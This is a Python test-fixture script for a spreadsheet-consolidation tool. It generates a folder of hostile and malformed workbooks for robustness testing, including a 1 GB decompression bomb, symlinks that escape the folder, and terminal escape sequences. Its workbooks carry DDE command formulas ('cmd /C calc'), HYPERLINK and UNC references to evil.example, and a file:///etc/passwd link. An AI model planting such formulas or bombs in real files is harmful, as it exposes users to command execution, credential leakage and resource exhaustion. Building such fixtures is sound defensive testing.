"""Build a folder of hostile and broken files (outside the repository) next to good ones, to
consolidate it as a new user would:

    python tools/hostile_inbox.py /tmp/恶意收件箱
    perfxl consolidate /tmp/恶意收件箱 -o /tmp/恶意汇总

Contents: a decompression bomb (1 GB inflated, lying header), a sheet with a cell at XFD1048576,
a dense sheet of two million cells, a two-million-character cell, 20,000 merged ranges, staff
text that looks like formulas, an .xlsm with a macro, a lock file, a symbolic link out of the
inbox, the same file twice, a GBK file name, a truncated copy, a text file named .xlsx, an
encrypted-looking OLE file, a WPS .et file, and the good sample workbooks. Besides (folder 恶意单位二):

- 远处_<form>.xlsx: a far cell in every spelling calamine accepts (single quotes, lower case, blanks
  around =, a newline before r, prefixed x:c, a second r, cells and rows without r, ...);
- 位置_<place>.xlsx: the far sheet's part outside xl/worksheets/, named .XML, absolute, %-encoded,
  or the workbook itself elsewhere; 隐藏成员.xlsx: the far sheet behind the Unicode-path extra field;
- 工作簿膨胀.xlsx: an xl/workbook.xml that inflates to 200 MB (past part_mb);
- 面积临界.xlsx: 199 sheets each just under the per-sheet area limit (past book_cells together);
- 空白五十.xlsx: 50 sheets of 4 MB whitespace each (between tags and inside them);
- 管道.xlsx: a FIFO; 链接目录: a symbolic link to a folder outside the inbox;
- a unit folder named in GBK bytes, and one whose workbook sits past 4,096 bytes of path;
- 单位名过长.xlsx: a department name of 120 characters;
- 外部链接.xlsx: a DDE formula, HYPERLINK(file://...) and a reference to a workbook on \\evil.example;
- 终端转义.xlsx: terminal escape sequences (ESC ] 0; ... BEL, ESC [ 2J) in the project name;
- 错误值.xlsx: #VALUE!, #N/A, #DIV/0! in amount cells;
- Café 招商局 twice, once NFC and once NFD (one unit);
- 表格.ods (if soffice is installed), 远处.ods (a repeated cell asking for 17 billion cells),
  损坏.xlsb (refused unread: xlsb-not-read), 表格.et (an .xls under the WPS name);
- 网页导出.xls (an HTML table), 表格2003.xls (SpreadsheetML 2003), 导出_GBK.csv and 导出_BOM.csv.
"""

from __future__ import annotations

import json
import os
import shutil
import sys
import zipfile
from pathlib import Path
from typing import Any, Literal

ROOT = Path(__file__).resolve().parent.parent
sys.path.insert(0, str(ROOT))

from perfxl.a1 import col_letter  # noqa: E402
from tests.fixtures.samples import build_workbook  # noqa: E402

SEED = ROOT / "workbooks" / "inbox" / "承德高新区经济发展局" / "2020年部门整体及项目绩效目标.xlsx"


def _replace_part(src: Path, target: Path, name: str, data: bytes) -> None:
    with zipfile.ZipFile(src) as zin, zipfile.ZipFile(target, "w", zipfile.ZIP_DEFLATED) as zout:
        for item in zin.infolist():
            zout.writestr(item, data if item.filename == name else zin.read(item.filename))


def _bomb(target: Path, size: int) -> None:
    name = "xl/worksheets/sheet1.xml"
    with zipfile.ZipFile(SEED) as zin, zipfile.ZipFile(target, "w", zipfile.ZIP_DEFLATED) as zout:
        for item in zin.infolist():
            if item.filename != name:
                zout.writestr(item, zin.read(item.filename))
        with zout.open(name, "w", force_zip64=True) as fh:
            chunk = b" " * (1 << 24)
            for _ in range(size >> 24):
                fh.write(chunk)


def _dense(target: Path, rows: int, cols: int) -> None:
    cells = "".join(f'<row r="{r}">' + "".join(f'<c r="{col_letter(c)}{r}"><v>{c}</v></c>' for c in range(cols))
                    + "</row>" for r in range(1, rows + 1))
    with zipfile.ZipFile(SEED) as zf:
        sheet = zf.read("xl/worksheets/sheet1.xml").decode()
    head, _, rest = sheet.partition("<sheetData>")
    _, _, tail = rest.partition("</sheetData>")
    _replace_part(SEED, target, "xl/worksheets/sheet1.xml", (head + "<sheetData>" + cells + "</sheetData>"
                                                             + tail).encode())


def build(folder: Path) -> None:
    import xlsxwriter

    if folder.exists():
        shutil.rmtree(folder)
    shutil.copytree(ROOT / "workbooks" / "inbox", folder)
    bad = folder / "恶意单位"
    bad.mkdir()
    _bomb(bad / "压缩炸弹.xlsx", 1 << 30)
    wb = xlsxwriter.Workbook(bad / "远处单元格.xlsx")
    ws = wb.add_worksheet()
    ws.write(0, 0, "一级指标")
    ws.write(1048575, 16383, "远")
    wb.close()
    _dense(bad / "两百万单元格.xlsx", 20_000, 100)
    draft = bad / "长文本.xlsx"
    golden = ROOT / "tests" / "golden"
    build_workbook(draft, [json.loads((golden / "01_重点产业扶持资金.json").read_text("utf-8"))], "per-sheet")
    with zipfile.ZipFile(draft) as zf:
        names = zf.namelist()
    part = "xl/sharedStrings.xml" if "xl/sharedStrings.xml" in names else "xl/worksheets/sheet1.xml"
    with zipfile.ZipFile(draft) as zf:
        text = zf.read(part).replace("支持区内企业发展".encode(), "很长".encode() * 1_000_000, 1)
    _replace_part(draft, bad / "两百万字.xlsx", part, text)
    draft.unlink()
    wb = xlsxwriter.Workbook(bad / "两万合并.xlsx")
    ws = wb.add_worksheet()
    for r in range(20_000):
        ws.merge_range(r, 0, r, 1, f"行{r}")
    wb.close()
    spec = json.loads((golden / "02_重点项目集中开工和观摩.json").read_text("utf-8"))
    spec["table"]["project_name"] = '=HYPERLINK("http://evil.example","点我")'
    spec["table"]["indicators"][0]["level3"] = "=cmd|' /C calc'!A0"
    spec["table"]["goals"] = ["+1+2", "@SUM(1)", "-2+3"]
    build_workbook(bad / "公式注入.xlsx", [spec], "per-sheet")
    vba = bad / "vbaProject.bin"
    vba.write_bytes(b"\xd0\xcf\x11\xe0 macro")
    wb = xlsxwriter.Workbook(bad / "带宏.xlsm")
    wb.add_worksheet().write(0, 0, "项目名称")
    wb.add_vba_project(str(vba))
    wb.close()
    vba.unlink()
    (bad / "~$带宏.xlsm").write_bytes(b"lock")
    outside = folder.parent / f"{folder.name}_外部"
    outside.mkdir(exist_ok=True)
    shutil.copy(SEED, outside / "外部机密.xlsx")
    (bad / "指向外部.xlsx").symlink_to(outside / "外部机密.xlsx")
    shutil.copy(SEED, bad / "重复提交.xlsx")
    shutil.copy(SEED, bad / os.fsdecode("经发局 副本.xlsx".encode("gbk")))
    (bad / "复制中断.xlsx").write_bytes(SEED.read_bytes()[:5000])
    (bad / "其实是文本.xlsx").write_text("这不是表格", "utf-8")
    (bad / "加密.xls").write_bytes(b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + "EncryptedPackage".encode("utf-16-le")
                                   + b"\0" * 4096)
    (bad / "wps表格.et").write_bytes(b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 512)
    (folder / "恶意单位二").mkdir()
    _native_cases(folder / "恶意单位二")
    _user_cases(folder)


def _raw(target: Path, parts: list[tuple[str | bytes, bytes, bytes]]) -> None:
    from tests.test_native_reader import raw_zip

    target.write_bytes(raw_zip(parts))


def _native_cases(bad: Path) -> None:
    from tests.test_native_reader import (
        FAR,
        FAR_ODS,
        MAIN,
        ODS_TEXT,
        PLACES,
        TEXT,
        _unicode_path,
        members,
        ods,
        sheet_xml,
    )

    for i, (form, rows) in enumerate(sorted(FAR.items())):
        far = sheet_xml(TEXT + rows, ' xmlns:x="' + MAIN + '"')
        _raw(bad / f"远处_{i:02d}_{form}.xlsx", members({"远": far, "正常": sheet_xml(TEXT)}))
    far = sheet_xml(TEXT + '<row><c r="XFD1048576"><v>1</v></c></row>')
    for place, (targets, book) in sorted(PLACES.items()):
        _raw(bad / f"位置_{place}.xlsx", members({"正常": sheet_xml(TEXT), "远": far}, targets, book))
    hidden = [(b"xl/junk.bin" if n == "xl/worksheets/sheet1.xml" else n, d,
               _unicode_path("xl/worksheets/sheet1.xml", b"xl/junk.bin") if n == "xl/worksheets/sheet1.xml" else e)
              for n, d, e in members({"远": far})]
    _raw(bad / "隐藏成员.xlsx", hidden)
    swollen = [(n, d.replace(b"<sheets>", b" " * (200 << 20) + b"<sheets>") if n == "xl/workbook.xml" else d, e)
               for n, d, e in members({"表": sheet_xml(TEXT)})]
    _raw(bad / "工作簿膨胀.xlsx", swollen)
    near = sheet_xml(TEXT + '<row r="999"><c r="ALL999"><v>1</v></c></row>')  # 999 x 1,000 cells
    _raw(bad / "面积临界.xlsx", members({f"表{i}": near for i in range(199)}))
    blank = sheet_xml(TEXT.replace("<c r=", "<c" + " " * (1 << 20) + "r=") + " \n" * (3 << 19))
    _raw(bad / "空白五十.xlsx", members({f"空{i}": blank for i in range(50)}))
    _raw(bad / "远处.ods", ods({"远": FAR_ODS, "正常": ODS_TEXT}))
    with zipfile.ZipFile(bad / "损坏.xlsb", "w") as zf:
        zf.writestr("[Content_Types].xml", "<Types/>")
        zf.writestr("xl/workbook.bin", b"\x83\x01\x00junk")


def _spec(index: int) -> dict[str, Any]:
    golden = sorted((ROOT / "tests" / "golden").glob("[01]*.json"))
    return json.loads(golden[index].read_text("utf-8"))


def _user_cases(folder: Path) -> None:
    import unicodedata

    import openpyxl

    from tests.fixtures.exports import render_csv, render_html, render_spreadsheet_ml
    from tests.fixtures.families import FAMILIES

    bad = folder / "恶意单位二"
    os.mkfifo(bad / "管道.xlsx")
    outside = folder.parent / f"{folder.name}_外部"
    (bad / "链接目录").symlink_to(outside, target_is_directory=True)
    gbk = folder / os.fsdecode("经发局GBK".encode("gbk"))
    gbk.mkdir()
    build_workbook(gbk / "项目.xlsx", [_spec(3)], "per-sheet")
    deep = folder / "深层单位"
    deep.mkdir()
    fd = os.open(deep, os.O_RDONLY)
    for _ in range(20):  # 20 x 240 bytes: past PATH_MAX
        os.mkdir("层" * 80, dir_fd=fd)
        nxt = os.open("层" * 80, os.O_RDONLY, dir_fd=fd)
        os.close(fd)
        fd = nxt
    build_workbook(bad / "深.tmp", [_spec(4)], "per-sheet")
    out = os.open("深.xlsx", os.O_WRONLY | os.O_CREAT, dir_fd=fd)
    os.write(out, (bad / "深.tmp").read_bytes())
    os.close(out)
    os.close(fd)
    (bad / "深.tmp").unlink()
    spec = _spec(5)
    spec["unit"] = "承德高新区" + "很长的单位名称" * 16
    build_workbook(bad / "单位名过长.xlsx", [spec], "per-sheet")
    spec = _spec(6)
    spec["table"]["project_name"] = "正常项目ESCAPES"  # openpyxl refuses control characters: patched in below
    build_workbook(bad / "转义.tmp.xlsx", [spec], "per-sheet")
    with zipfile.ZipFile(bad / "转义.tmp.xlsx") as zf:
        part = next(n for n in zf.namelist() if b"ESCAPES" in zf.read(n))
        text = zf.read(part).replace(b"ESCAPES", b"_x001B_]0;pwned_x0007__x001B_[2J_x001B_[31m\xe7\xba\xa2")
    _replace_part(bad / "转义.tmp.xlsx", bad / "终端转义.xlsx", part, text)
    (bad / "转义.tmp.xlsx").unlink()
    build_workbook(bad / "外部链接.xlsx", [_spec(7)], "per-sheet")
    wb = openpyxl.load_workbook(bad / "外部链接.xlsx")
    ws = wb.worksheets[0]
    ws["Z1"] = "=cmd|' /C calc'!A0"
    ws["Z2"] = '=HYPERLINK("file://evil.example/share/x.exe","点我")'
    ws["Z3"] = "='\\\\evil.example\\share\\[x.xlsx]Sheet1'!A1"
    ws["Z4"].hyperlink = "file:///etc/passwd"
    wb.save(bad / "外部链接.xlsx")
    build_workbook(bad / "错误值.xlsx", [_spec(8)], "per-sheet")
    wb = openpyxl.load_workbook(bad / "错误值.xlsx")
    numbers = [c for ws in wb.worksheets for row in ws.iter_rows() for c in row
               if isinstance(c.value, (int, float)) and not isinstance(c.value, bool)]
    for cell, error in zip(numbers, ["#VALUE!", "#N/A", "#DIV/0!"], strict=False):
        cell.value = error
    wb.save(bad / "错误值.xlsx")
    forms: tuple[tuple[Literal["NFC", "NFD"], int], ...] = (("NFC", 9), ("NFD", 10))
    for form, index in forms:
        unit = folder / unicodedata.normalize(form, "Café 招商局")
        unit.mkdir()
        build_workbook(unit / f"{form}.xlsx", [_spec(index)], "per-sheet")
    shutil.copy(ROOT / "workbooks" / "inbox" / "承德高新区招商服务局" / "科技大厦企业用房租金绩效表.xls",
                bad / "表格.et")
    soffice = shutil.which("soffice")
    if soffice:
        import subprocess

        source = ROOT / "workbooks" / "inbox" / "承德高新区招商服务局" / "招商服务局项目绩效表.xlsx"
        subprocess.run([soffice, "--headless", "--convert-to", "ods", "--outdir", str(bad), str(source)],
                       check=False, capture_output=True, timeout=300)
    grids = FAMILIES["cost_first_level_2021"][0]()
    (bad / "网页导出.xls").write_bytes(render_html(grids, "gbk"))
    (bad / "表格2003.xls").write_bytes(render_spreadsheet_ml(grids))
    (bad / "导出_GBK.csv").write_bytes(render_csv(grids[0], "gbk"))
    (bad / "导出_BOM.csv").write_bytes(render_csv(grids[0], "utf-8-sig"))


if __name__ == "__main__":
    target = Path(sys.argv[1] if len(sys.argv) > 1 else "/tmp/恶意收件箱")
    build(target)
    print(f"已生成：{target}")
